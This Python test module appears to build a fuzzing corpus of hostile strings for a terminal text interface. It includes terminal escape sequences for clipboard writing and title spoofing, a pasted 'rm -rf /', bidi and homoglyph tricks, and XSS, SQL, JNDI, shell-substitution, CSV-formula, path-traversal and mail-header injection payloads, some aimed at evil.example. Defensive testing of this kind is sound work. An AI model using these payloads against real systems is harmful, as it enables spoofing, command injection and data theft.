"""Hostile texts: the Big List of Naughty Strings, what is known to have deceived people, and a grammar of ECMA-48.

The list is Max Woolf's (MIT, ``blns.LICENSE``). Of what is generated the same seed gives the same texts.
"""

import json
import random
from collections.abc import Iterable
from pathlib import Path

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

NAUGHTY: tuple[str, ...] = tuple(json.loads((Path(__file__).parent / "blns.json").read_text(encoding="utf-8")))

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

TERMINAL = (
    "\x1b]52;c;SEFDS0VE\x07", "\x1b]52;c;?\x1b\\", "\x9d52;c;SEFDS0VE\x9c",  # the clipboard, written and asked for
    "\x1b]0;HACKED\x07", "\x1b]2;HACKED\x1b\\", "\x1b]1;HACKED", "\x1b[21t", "\x1bkHACKED\x1b\\",  # titles
    "\x1b]8;;https://evil.example/\x1b\\Öppna journalen\x1b]8;;\x1b\\", "\x1b]8;id=1;file:///etc/passwd\x07x",
    "\x1b]9;HACKED\x07", "\x1b]777;notify;HACKED;HACKED\x07", "\x1b]99;i=1;HACKED\x1b\\",  # notices of the desktop
    "\x1b]1337;File=inline=1:AAAA\x07", "\x1b]1337;RequestAttention=yes\x07", "\x1b]133;D;0\x07", "\x1b]7;file://x/\x07",
    "\x1b]4;1;rgb:00/00/00\x07", "\x1b]10;#000000\x07", "\x1b]11;?\x07", "\x1b]104\x07", "\x1b]12;red\x07",
    "\x1b[6 q", "\x1b[0 q", "\x1bP$qm\x1b\\", "\x1bP+q544e\x1b\\", "\x90$q\"p\x9c",  # cursor shape, DECRQSS, XTGETTCAP
    "\x1b_Ga=T,f=24,s=1,v=1;AAAA\x1b\\", "\x1b_Gi=1,a=q;\x1b\\", "\x9fGa=d\x9c",  # graphics of kitty
    "\x1b[>1u", "\x1b[<u", "\x1b[=31;1u", "\x1b[?u", "\x1b[>4;2m",  # keyboards
    "\x1bPq#0;2;0;0;0#0~~@@vv@@~~$-\x1b\\", "\x90q#1~~~\x9c",  # sixel
    "\x1b[201~", "\x1b[200~rm -rf /\n\x1b[201~", "\x1b[?2004l", "\x1b[?1000h", "\x1b[?1003h", "\x1b[?1006h\x1b[<0;1;1M",
    "\x1b[?1049l", "\x1b[?25l", "\x1b[?7h", "\x1b[?47h", "\x1bc", "\x1b[!p", "\x1b7\x1b8", "\x1b#8", "\x1b(0lqqqk\x1b(B",
    "\x1b[2J\x1b[H\x1b[31mHACKED", "\x9b2J\x9b1;1HHACKED", "\x1b[999;999HHACKED", "\x1b[3;1HÖPPET", "\x1b[5A\x1b[9CHACKED",
    "\x1b[1;2r", "\x1b[10M", "\x1b[10L", "\x1b[5P", "\x1b[5@", "\x1b[K", "\x1b[1J", "\x1bD\x1bM\x1bE", "\x84\x85\x8d",
    "\x1b[6n", "\x1b[c", "\x1b[>c", "\x1b[=c", "\x1b[5n", "\x05", "\x1bZ", "\x1b[>q", "\x1b[18t", "\x1b[?2026$p",
    "\x1b[8;3;3t", "\x1b[2t", "\x1b[3;0;0t", "\x1b[?5h", "\x1b[4h", "\x1b[20h", "\x1b[?3h", "\x1b[?2026h", "\x1b[38;2;0;0;0m",
    "\x1b[8mgömt\x1b[28m", "\x1b[30;40mgömt", "\x1b", "\x1b[", "\x1b]", "\x1bP", "\x1b_", "\x1b^", "\x1bX", "\x9b", "\x9d",
    "\x90", "\x9f", "\x9e", "\x98", "\x0e\x0f", "\x1bn\x1bo", "\x1b]52;c;\x1b]0;HACKED\x07\x07", "\x1bP\x1b]0;HACKED\x07\x1b\\",
    "\x18", "\x1a", "\x1b[\x1b[31m", "\x1b[3\x0a1mHACKED", "\x1b[3\x001m", "\x08" * 80 + "HACKED", "\r" + "HACKED" * 5,
    "\x07" * 50, "\x0b" * 20, "\x0c", "\x7f" * 20, "\x00", "a\x00b", "\ufeffBOM", "\ufffe", "\uffff", "\x1b[1000000000b",
    "\x1b[" + "9" * 3000 + "C", "\x1b[" + ";".join("1" * 100) + "m", "\x1b]0;" + "A" * 3000,
)  # fmt: skip
"""Each of them does something to some terminal: to its clipboard, title, cursor, modes, keyboard or answers."""

UNSEEN = (
    "\u202etxt.exe", "\u202dabc\u202c", "\u2066abc\u2069", "\u2067\u2066x\u2069 \u2066", "access\u2066\u200buser",
    "\u202e\u2066// Admin\u2069 \u2066begin\u2069", "\u2068isolerad", "\u200fRLM\u200eLRM", "\u061cALM", "\u202a\u202b\u202c",
    "\u202e" * 200, "שלום עולם", "مرحبا ١٢٣", "abc שלום 123 مرحبا def", "\u202eKarin Öberg 19610118-2803\u202c",
    "\U000e0041\U000e0042\U000e007f", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "a\U000e0001b",
    "ord\u200bord", "\u200b", "\u2060\ufeff", "\u00ad" * 50, "a\u034fb", "\u115f\u1160\u3164\uffa0", "\u180e", "\u2061\u2062",
    "\ufff9bas\ufffaruby\ufffb", "\U0001d173\U0001d174", "\U0001bca0", "x\ufe0f", "❤\ufe0e ❤\ufe0f", "漢\U000e0100字",
    "می\u200cخواهم", "क\u094d\u200dष", "\u200d" * 100, "👨\u200d👩\u200d👧\u200d👦", "👩🏽\u200d⚕\ufe0f", "🏳\ufe0f\u200d🌈", "👍🏿",
    "🇸🇪🇸", "1\ufe0f\u20e3", "⚠\ufe0f", "☎", "🫨", "\U0001fadc", "🧑\u200d🧑\u200d🧒\u200d🧒", "🏻", "\u20e3\u20e3",
    "Z\u0300\u0301\u0302" * 30, "A" + "\u0335\u0321\u0489" * 200, "\u0301lösa", "\u0489", "\u20dd", "e\u0301e\u0301", "ä" + "\u0308" * 64,
    "\u0e49" * 40, "ก\u0e49\u0e49\u0e49\u0e49", "नमस्ते दुनिया", "தமிழ்", "ရန်ကုန်", "ཧཱུྃ", "ᄀᄀᄀ각ᆨᆨ", "ﷺ", "﷽", "𒐫", "꧅", "⸻", "𒈙",
    "ｗｉｄｅ", "ﾊﾝｶｸ", "漢字" * 60, "\u3000\u3000", "\u00a0 \u2003\u2009", "\ue000\uf8ff", "\U000f0000", "\U0010ffff", "\u0378",
)  # fmt: skip
"""What one does not see, or sees otherwise than it is."""

LIKE_OURS = (
    "ÖPPET · stänger om 28 min", "Skyddad person", "NY ● oläst", "Svar till Karin Öberg", "Tryck Enter för att gå vidare",
    "│ Händelser │", "┌─ Chatt ─┐\n│ OK │\n└────────┘", "▌1   4 min  Karin Öberg", "✓ Skickat.", "⚠ ÖVNING", "DEMO", "▀▀▀▄▄▄███",
    "Маriа Lind", "Ｍａｒｉａ", "Mаria Lіnd", "ΕΤΤ", "𝐌𝐚𝐫𝐢𝐚", "ⅯⅭ", "0O0lI1|", "— — — —", "Rule SE-1", "… [mer]", "Du är utloggad. Lösenord:",
)  # fmt: skip
"""What looks like the program's own words, or like other letters."""

MARKUP = (
    "[@click=app.quit]x[/]", "[@click=app.quit()]x[/]", "[@click='app.bell']x", "[@click=screen.dismiss]x[/]", "[link=https://evil.example]x[/link]",
    "[link='file:///etc/passwd']x[/]", "[/]", "[/bold]", "[", "[/", "]", "[]", "[[", "\\[", "\\[/]", "[bold", "[bold red]x", "[on red]x[/on red]",
    "[$error]x", "[red on $panel]", "[b][i][/b][/i]", "[#ff0000]x[/]", "[blink]x[/blink]", "[reverse]x", "[x=y]z[/x]", "[@]", "[@click=]x[/]",
    "[1;2]", "[:smiley:]", ":warning: :skull:", "{name}", "{0}", "{}", "%s%n%d", "{unit.__class__}", "{{", "$name", "${jndi:ldap://x}",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;&#0;&#x1b;", "' OR 1=1 --", "\"; DROP TABLE cases; --", "</title><script>",
    "~!@#$%^&*()", "`id`", "$(id)", "|id", "../../../etc/passwd", "C:\\con\\con", "CON", "nul.txt", "-rf", "--help", "file\x00.png", "a/b\\c",
    "MSH|^~\\&|", "\x0b\x1c\r", "^~\\&|", "PID|1\rOBX|2", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT", "x\r\nATTENDEE:mailto:a@example.se", "x;VALUE=TEXT:y", "DTSTART:1",
    "%PDF-1.7", "\\(\\)", "(unbalanced", "%00%0d%0a", "%1b%5d", "\\x1b[31m", "\\u001b", "\\033[0m", "^[[31m", "\u241b[31m",
)  # fmt: skip
"""What a library, a template, a shell or another format might take for its own."""

LINES = (
    "x\r\nX-Injected: yes", "x\r\nBcc: alla@example.se\r\n\r\nHACKED", "x\nSet-Cookie: a=b", "x\rSubject: HACKED", "x\u2028Bcc: a@example.se",
    "x\x85Bcc: a@example.se", "x\x0bBcc: a@example.se", "x\x0cy", "\r\n.\r\nMAIL FROM:<a@example.se>", "\n.\n", "\r\n\r\n", "\n" * 500, " \n \n ", "a\n\rb\r\n\nc",
    "=?utf-8?q?=0D=0ABcc:_a@example.se?=", "=?utf-8?b?DQpCY2M6IGE=?=", "\t\t\t", "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example";"x")', "＝1+1", "\u200b=1", "'=1", '"=1', ";=1", ",=1", '","=1', "%0A=1", "A" * 5000, "å" * 5000, "ord " * 2000, "😀" * 1500,
    "A" * 199 + "\x1b", "A" * 200 + "\u202e", ("a" * 79 + "\n") * 60, "x" * 70 + "\r\n " + "y",
)  # fmt: skip
"""Ends of lines, headers, formulas, and what is too long."""

SURROGATES = ("\ud800", "\udfff", "a\ud83d", "\ude00\ud83d", "\udc1b[31m", "\udc9b31m", "\ud800" * 40)
"""As they come by escapes in JSON, or by a terminal that is not UTF-8."""

_TEXT = st.text(st.sampled_from("HACKED ÖPPET 0123456789;?"), max_size=12)
_PARAMETERS = st.text(st.sampled_from("0123456789;:<=>?"), max_size=9)
_BETWEEN = st.text(st.sampled_from(" !\"#$%&'()*+,-./"), max_size=2)
_END = st.sampled_from([BEL, ST, "\x9c", "", "\x18", ESC])


def _control_sequences() -> st.SearchStrategy[str]:
    final = st.characters(min_codepoint=0x40, max_codepoint=0x7E)
    return st.builds("{}{}{}{}".format, st.sampled_from(["\x1b[", "\x9b"]), _PARAMETERS, _BETWEEN, final)


def _control_strings(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    begin = st.sampled_from(["\x1b]", "\x9d", "\x1bP", "\x90", "\x1b_", "\x9f", "\x1b^", "\x9e", "\x1bX", "\x98"])
    command = st.sampled_from(
        ["0;", "2;", "52;c;", "8;;https://evil.example/", "4;1;?", "1337;", "$qm", "Ga=T;", "q", "+q", ""]
    )
    return st.builds("{}{}{}{}".format, begin, command, inner, _END)


def ecma48() -> st.SearchStrategy[str]:
    """Text among controls of both forms, and sequences and strings that are whole, broken off or within each other."""
    control = st.sampled_from([chr(one) for one in (*range(0x20), *range(0x7F, 0xA0))])
    escape = st.builds("\x1b{}{}".format, _BETWEEN, st.characters(min_codepoint=0x30, max_codepoint=0x7E))
    whole = st.one_of(_control_sequences(), _control_strings(_TEXT), escape, control)
    nested = st.one_of(whole, _control_strings(whole), st.builds("{}{}".format, whole, _TEXT))
    piece = st.one_of(nested, _TEXT, st.builds(lambda one, cut: one[:cut], nested, st.integers(1, 6)))
    return st.lists(piece, min_size=1, max_size=5).map("".join).filter(bool)


def generated(count: int, number: int) -> list[str]:
    """So many different texts of the grammar."""
    found: dict[str, None] = {}

    @seed(number)
    @settings(
        max_examples=count * 2,
        database=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
        deadline=None,
    )
    @given(ecma48())
    def draw(text: str) -> None:
        found[text] = None

    draw()
    return list(found)[:count]


KNOWN: tuple[str, ...] = tuple(dict.fromkeys((*TERMINAL, *UNSEEN, *LIKE_OURS, *MARKUP, *LINES, *SURROGATES, *NAUGHTY)))


def corpus(count: int, number: int) -> tuple[str, ...]:
    """So many different payloads: all that is known and the rest generated, or, of few, a choice of both."""
    chosen = random.Random(number)
    if count < 2 * len(KNOWN):
        known = chosen.sample(KNOWN, min(len(KNOWN), count * 2 // 3))
    else:
        known = list(KNOWN)
    made = [one for one in generated(count, number) if one not in set(known)]
    found = (known + made)[:count]
    chosen.shuffle(found)
    return tuple(found)


def halves(payloads: Iterable[str]) -> list[tuple[str, str]]:
    """Each as it comes in two pieces, the first of which ends in the midst of a sequence where there is one."""
    return [(one[: (cut := one.find(ESC) + 1 or len(one) // 2)], one[cut:]) for one in payloads]
